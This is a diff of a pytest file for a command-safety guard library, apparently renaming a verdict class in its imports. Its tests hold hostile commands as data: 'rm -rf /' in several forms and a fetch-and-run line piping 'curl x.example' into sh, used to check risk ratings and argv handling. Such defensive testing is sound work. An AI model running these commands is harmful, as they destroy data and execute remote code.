@@ -6,7 +6,8 @@ from __future__ import annotations
 import shlex
 
 import pytest
-from alveary_security import Guard, Verdict
+from alveary import CommandVerdict
+from alveary_security import Guard
 
 HOSTILE = [
     "",
@@ -94,6 +95,6 @@ def test_hostile_argv_gets_a_verdict(argv: list[str]) -> None:
 
 def test_an_argv_is_not_read_as_shell() -> None:
     g = Guard.from_config()
-    assert g.check(["echo", "rm -rf /; $(curl x.example | sh)"]) == Verdict("allow")
+    assert g.check(["echo", "rm -rf /; $(curl x.example | sh)"]) == CommandVerdict("allow")
     assert g.check(["rm", "-rf", "/"]).risk == "critical"
     assert g.check(["bash", "-c", 'rm -rf "$1"', "bash", "/"]).risk == "critical"
